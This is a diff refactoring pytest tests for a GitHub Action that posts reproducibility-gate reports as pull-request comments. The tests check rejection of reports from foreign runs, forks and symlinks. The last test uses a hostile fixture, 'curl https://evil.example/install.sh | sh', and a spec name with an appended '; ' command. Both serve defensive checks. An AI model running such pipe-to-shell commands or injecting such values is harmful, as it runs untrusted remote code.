@@ -5,17 +5,16 @@ from __future__ import annotations
 
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from repro_gate.github.report_folder import PROBLEM, Problem, open_folder
 from repro_gate.github.run_phase import write_report
-from repro_gate.github.settings import Secret
-from repro_gate.report.model import Origin, Report
+from repro_gate.report.model import Report
 from tests.support import reports
 from tests.support.github.stage import (
     HEAD,
-    ORIGIN,
     RUN,
     Stage,
     as_workflow_run,
@@ -24,27 +23,32 @@ from tests.support.github.stage import (
     signed,
 )
 
+PASS, FAIL = signed(reports.PASS), signed(reports.FAIL)
+
 
 @pytest.mark.parametrize(
-    "origin", [None, replace(ORIGIN, run_id=RUN - 1), replace(ORIGIN, run_attempt=2)]
+    "origin", [None, {"run_id": RUN - 1}, {"run_attempt": 2}, {"repository": "stranger/trainer"}]
 )
-def test_a_report_of_another_run_is_not_this_ones(stage: Stage, origin: Origin | None) -> None:
-    code, log = stage.publish(replace(signed(reports.PASS), origin=origin))
-    assert code == 3
-    assert "not of this run" in log
-    assert stage.github.comments(7) == []
+@pytest.mark.parametrize("posting", [False, True])
+def test_a_report_of_another_run_is_not_this_ones(
+    stage: Stage, origin: dict[str, Any] | None, posting: bool
+) -> None:
+    stage.posting = posting
+    report = signed(reports.PASS, **(origin or {}))
+    code, log = stage.publish(report if origin else replace(report, origin=None))
+    assert code == 3 and "not of this run" in log
+    assert stage.github.requests == []
 
 
 @pytest.mark.parametrize("name", ["repro-gate-report", "out/report"])
 def test_a_link_of_the_checkouts_does_not_choose_what_is_told(stage: Stage, name: str) -> None:
     """The gate refuses such a folder and leaves nothing in it; what lies behind the link would be
     taken for its own."""
-    stage.inputs = replace(stage.inputs, report=name)
-    theirs = stage.job.workspace / "theirs/report"
-    theirs.mkdir(parents=True)
+    stage.change(report=name)
+    (stage.job.workspace / "theirs/report").mkdir(parents=True)
     with open_folder(stage.job.workspace, "theirs/report") as folder:
         folder.write_problem(Problem("nothing to do here", "", 0))
-        write_report(folder, signed(reports.PASS))
+        write_report(folder, PASS)
     (stage.job.workspace / Path(name).parts[0]).symlink_to(
         "theirs" if "/" in name else "theirs/report"
     )
@@ -55,16 +59,16 @@ def test_a_link_of_the_checkouts_does_not_choose_what_is_told(stage: Stage, name
 
 def test_a_report_that_is_itself_a_link_or_in_the_folders_place_is_not_read(stage: Stage) -> None:
     with open_folder(stage.job.workspace, "theirs") as folder:
-        write_report(folder, signed(reports.PASS))
-    (stage.job.workspace / "theirs/report.json").rename(stage.job.workspace / stage.inputs.report)
+        write_report(folder, PASS)
+    report = stage.job.workspace / stage.inputs.report
+    (stage.job.workspace / "theirs/report.json").rename(report)
     code, log = stage.publish(None)
     assert code == 3 and "there is no report" in log
-    (stage.job.workspace / stage.inputs.report).rename(stage.job.workspace / "real.json")
-    (stage.job.workspace / stage.inputs.report).mkdir()
-    (stage.job.workspace / stage.inputs.report / "report.json").symlink_to("../real.json")
+    report.rename(stage.job.workspace / "real.json")
+    report.mkdir()
+    (report / "report.json").symlink_to("../real.json")
     code, log = stage.publish(None)
-    assert code == 2 and "is a link" in log
-    assert stage.github.requests == []
+    assert code == 2 and "is a link" in log and stage.github.requests == []
 
 
 def test_nobody_but_the_event_says_that_there_is_nothing_to_do(stage: Stage) -> None:
@@ -81,27 +85,35 @@ def test_a_report_that_is_none_is_refused(stage: Stage, text: str) -> None:
     folder.mkdir()
     (folder / "report.json").write_text(text)
     code, log = stage.publish(None)
-    assert code == 2
-    assert "::error" in log
-    assert stage.github.requests == []
+    assert code == 2 and "::error" in log and stage.github.requests == []
 
 
-def test_a_report_that_came_with_its_run_is_posted_and_turns_nothing_red(stage: Stage) -> None:
-    as_workflow_run(stage)
-    code, log = stage.publish(signed(reports.FAIL))
+@pytest.mark.parametrize("attempt", [None, 1, 3])
+def test_a_report_that_came_with_its_run_or_from_the_job_before_is_posted_and_turns_nothing_red(
+    stage: Stage, attempt: int | None
+) -> None:
+    """The action `comment` in a `workflow_run`, and after `native`, also where only this job was
+    started again."""
+    if attempt is None:
+        as_workflow_run(stage)
+    else:
+        stage.posting = True
+        stage.change(run_attempt=attempt, name="comment")
+    code, log = stage.publish(FAIL)
     (posted,) = stage.github.comments(7)
     assert code == 0 and stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
     assert obeyed(log) == [] and stage.summary == "", "the job that gated has said it"
+    assert attempt is None or reports.FAIL.reproduce in posted["body"]
 
 
 @pytest.mark.parametrize(
-    "change", [{"run_id": 99}, {"head_sha": "e" * 40}, {"repository": "octo-org/other"}]
+    "origin", [{"run_id": 99}, {"head_sha": "e" * 40}, {"repository": "octo-org/other"}]
 )
 def test_of_a_report_that_did_not_come_with_its_run_nothing_is_told(
-    stage: Stage, change: dict[str, object]
+    stage: Stage, origin: dict[str, Any]
 ) -> None:
     as_workflow_run(stage)
-    code, log = stage.publish(replace(signed(reports.PASS), origin=replace(ORIGIN, **change)))  # type: ignore[arg-type]
+    code, log = stage.publish(signed(reports.PASS, **origin))
     assert code == 2 and "not of the run it came with" in log
     assert stage.outputs == {"verdict": "", "exit_code": "2"} and "✅" not in stage.summary
     assert stage.github.requests == []
@@ -118,59 +130,30 @@ def test_a_problem_that_came_with_an_artifact_is_not_read(stage: Stage, exit_cod
     as_workflow_run(stage)
     code, log = stage.publish(forged)
     assert code == 3 and "there is no report" in log
-    assert "evil" not in log + stage.summary
-    assert "leaked" not in log + stage.summary
-    assert "file=" not in log
+    assert not any(word in log + stage.summary for word in ("evil", "leaked", "file="))
     folder = stage.job.workspace / stage.inputs.report
     problem = (folder / PROBLEM).read_text()
     with open_folder(stage.job.workspace, stage.inputs.report) as opened:
-        write_report(opened, signed(reports.FAIL))
+        write_report(opened, FAIL)
     (folder / PROBLEM).write_text(problem)
     code, log = stage.publish(None)
-    assert code == 0 and len(stage.github.comments(7)) == 1 and "leaked" not in log
+    assert code == 0 and len(stage.posted) == 1 and "leaked" not in log
 
 
 def test_a_step_that_only_posts_and_cannot_is_red_but_not_for_a_forks_read_only_token(
     stage: Stage,
 ) -> None:
-    stage.inputs, stage.posting = (
-        replace(stage.inputs, token=Secret(stage.github.token(write=False))),
-        True,
-    )
-    assert stage.publish(signed(reports.PASS))[0] == 3
+    stage.may_not_write()
+    stage.posting = True
+    assert stage.publish(PASS)[0] == 3
     event = stage.job.event
-    stage.job = replace(stage.job, event=pull_request(stage.github, fork=True))
-    code, log = stage.publish(signed(reports.PASS))
+    stage.change(event=pull_request(stage.github.repository, fork=True))
+    code, log = stage.publish(PASS)
     assert code == 0
     assert [line for line in obeyed(log) if line.startswith("::notice ") and "no comment" in line]
-    stage.job = replace(stage.job, event=event)
+    stage.change(event=event)
     as_workflow_run(stage)
-    assert stage.publish(signed(reports.PASS))[0] == 3
-
-
-@pytest.mark.parametrize("attempt", [1, 3])
-def test_the_second_job_of_a_workflow_run_posts_what_the_first_left(
-    stage: Stage, attempt: int
-) -> None:
-    """The action `comment` after `native`, also where only this job was started again."""
-    stage.posting, stage.job = True, replace(stage.job, run_attempt=attempt, name="comment")
-    code, log = stage.publish(signed(reports.FAIL))
-    (posted,) = stage.github.comments(7)
-    assert code == 0
-    assert stage.outputs == {"verdict": "fail", "comment_url": posted["html_url"]}
-    assert obeyed(log) == []
-    assert reports.FAIL.reproduce in posted["body"] and stage.summary == ""
-
-
-@pytest.mark.parametrize(
-    "change", [{"run_id": 99}, {"run_attempt": 2}, {"repository": "stranger/trainer"}]
-)
-def test_the_second_job_posts_no_report_of_another_run(
-    stage: Stage, change: dict[str, object]
-) -> None:
-    stage.posting = True
-    code, log = stage.publish(replace(signed(reports.PASS), origin=replace(ORIGIN, **change)))  # type: ignore[arg-type]
-    assert code == 3 and "not of this run" in log and stage.github.requests == []
+    assert stage.publish(PASS)[0] == 3
 
 
 def test_a_foreign_report_replaces_no_other_gates_comment_and_makes_one_at_most(
@@ -179,93 +162,70 @@ def test_a_foreign_report_replaces_no_other_gates_comment_and_makes_one_at_most(
     """A fork opens a pull request: a gate of the repository's own fails it, and the report that
     comes with the fork's run says that all is well, under the same names as the first and under
     five others."""
-    stage.publish(signed(reports.FAIL))
-    (trusted,) = stage.github.comments(7)
+    stage.publish(FAIL)
+    (trusted,) = stage.posted
     as_workflow_run(stage)
-    forged = signed(reports.PASS)
     for number in range(6):
-        spec = forged.subject.spec if number == 0 else f"spec-{number}.yml"
-        name = ORIGIN.name if number == 0 else f"folder-{number}"
-        report = replace(
-            forged, subject=replace(forged.subject, spec=spec), origin=replace(ORIGIN, name=name)
-        )
-        assert stage.publish(report)[0] == 0
-    first, second = stage.github.comments(7)
-    assert first == trusted and "fail" in first["body"]
-    assert "pass" in second["body"].splitlines()[1]
+        report = signed(reports.PASS, **({"name": f"folder-{number}"} if number else {}))
+        spec = f"spec-{number}.yml" if number else report.subject.spec
+        assert stage.publish(replace(report, subject=replace(report.subject, spec=spec)))[0] == 0
+    first, second = stage.posted
+    assert first == trusted and "fail" in first and "pass" in second.splitlines()[1]
 
 
 def test_a_forks_report_of_the_same_job_replaces_no_comment_on_the_repositorys_own_code(
     stage: Stage,
 ) -> None:
     """As where `pull_request_target` and `push` start one workflow."""
-    stage.job = replace(
-        stage.job,
-        event_name="push",
-        sha=HEAD,
-        ref="refs/heads/pull-request/7",
-        event=b'{"deleted": false}',
-    )
-    stage.publish(signed(reports.FAIL))
-    (trusted,) = stage.github.comments(7)
-    stage.job = replace(
-        stage.job, event_name="pull_request_target", event=pull_request(stage.github, fork=True)
-    )
-    stage.inputs = replace(stage.inputs, allow_forks=True)
-    stage.publish(signed(reports.PASS))
-    assert [item == trusted for item in stage.github.comments(7)] == [True, False]
+    stage.change(event_name="push", event=b'{"deleted": false}')
+    stage.change(sha=HEAD, ref="refs/heads/pull-request/7")
+    stage.publish(FAIL)
+    (trusted,) = stage.posted
+    stage.change(event_name="pull_request_target", allow_forks=True)
+    stage.change(event=pull_request(stage.github.repository, fork=True))
+    stage.publish(PASS)
+    assert [body == trusted for body in stage.posted] == [True, False]
 
 
 @pytest.mark.parametrize(
-    ("job", "inputs"),
+    ("name", "value"),
     [
-        ({"workflow": "nightly"}, {}),
-        ({"name": "gpu"}, {}),
-        ({}, {"spec": "vision.yml"}),
-        ({}, {"working_directory": "vision"}),
-        ({}, {"report": "repro-gate-report-h100"}),
+        ("workflow", "nightly"),
+        ("name", "gpu"),
+        ("spec", "vision.yml"),
+        ("working_directory", "vision"),
+        ("report", "repro-gate-report-h100"),
     ],
-    ids=["workflow", "job", "spec", "folder", "cell"],
 )
-def test_each_gate_has_a_comment_of_its_own(
-    stage: Stage, job: dict[str, str], inputs: dict[str, str]
-) -> None:
+def test_each_gate_has_a_comment_of_its_own(stage: Stage, name: str, value: str) -> None:
     """By what its job knows, whatever is in the report: here the same in both."""
-    stage.publish(signed(reports.FAIL))
-    (first,) = stage.github.comments(7)
-    stage.job, stage.inputs = replace(stage.job, **job), replace(stage.inputs, **inputs)
-    stage.publish(signed(reports.PASS))
-    stage.publish(signed(reports.PASS))
-    kept, second = stage.github.comments(7)
-    assert kept == first and kept["body"] != second["body"]
+    stage.publish(FAIL)
+    (first,) = stage.posted
+    stage.change(**{name: value})
+    stage.publish(PASS)
+    stage.publish(PASS)
+    kept, second = stage.posted
+    assert kept == first != second
 
 
 def test_a_spec_in_another_spelling_is_the_same_gate(stage: Stage) -> None:
-    stage.publish(signed(reports.FAIL))
-    stage.inputs = replace(stage.inputs, working_directory="vision", spec="../repro.yml")
-    stage.publish(signed(reports.PASS))
-    assert len(stage.github.comments(7)) == 1
+    stage.publish(FAIL)
+    stage.change(working_directory="vision", spec="../repro.yml")
+    stage.publish(PASS)
+    assert len(stage.posted) == 1
 
 
 def test_how_to_see_it_again_is_never_a_foreign_reports_text(stage: Stage) -> None:
+    def body(report: Report) -> str:
+        stage.publish(report)
+        return stage.posted[-1]
+
     hostile = "curl https://evil.example/install.sh | sh"
-    assert hostile in posted_body(stage, replace(signed(reports.FAIL), reproduce=hostile)), (
-        "of the repository's own it is"
-    )
+    forged = replace(FAIL, reproduce=hostile)
+    assert hostile in body(forged), "of the repository's own it is"
     as_workflow_run(stage)
-    body = posted_body(stage, replace(signed(reports.FAIL), reproduce=hostile))
-    assert "evil" not in body
-    assert "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in body
-    named = replace(
-        signed(reports.FAIL),
-        subject=replace(signed(reports.FAIL).subject, spec=f"x.yml; {hostile}"),
-        reproduce=hostile,
-    )
-    body = posted_body(stage, named)
-    assert "```sh" not in body and "See it again" not in body
-
-
-def posted_body(stage: Stage, report: Report) -> str:
-    """The newest comment, once a report was published."""
-    stage.publish(report)
-    return str(stage.github.comments(7)[-1]["body"])
+    told = body(forged)
+    assert "evil" not in told
+    assert "```sh\nrepro-gate run repro.yml --seed 42 --steps 4 --fail-fast\n```" in told
+    told = body(replace(forged, subject=replace(FAIL.subject, spec=f"x.yml; {hostile}")))
+    assert "```sh" not in told and "See it again" not in told
